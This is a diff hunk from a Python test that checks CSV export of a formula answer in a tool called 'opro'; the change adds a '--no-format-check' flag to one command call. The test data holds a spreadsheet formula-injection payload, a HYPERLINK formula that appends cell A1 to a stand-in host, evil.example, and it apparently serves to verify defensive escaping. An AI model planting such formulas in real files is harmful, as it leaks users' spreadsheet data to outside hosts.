@@ -168,7 +168,8 @@ def test_csv_export_of_a_formula_answer(
 ) -> None:
     formula = '=HYPERLINK("http://evil.example/"&A1,"Open")'
     with fake_server(lambda prompt, body: formula) as srv:
-        opro("run", str(project), "--steps", "1", "--base-url", srv.base_url, capsys=capsys)
+        opro("run", str(project), "--steps", "1", "--base-url", srv.base_url,
+             "--no-format-check", capsys=capsys)  # fmt: skip
     out = project.with_name("f.csv")
     assert opro("export", str(project), "--format", "csv", "-o", str(out), capsys=capsys)[0] == 0
     cells = [
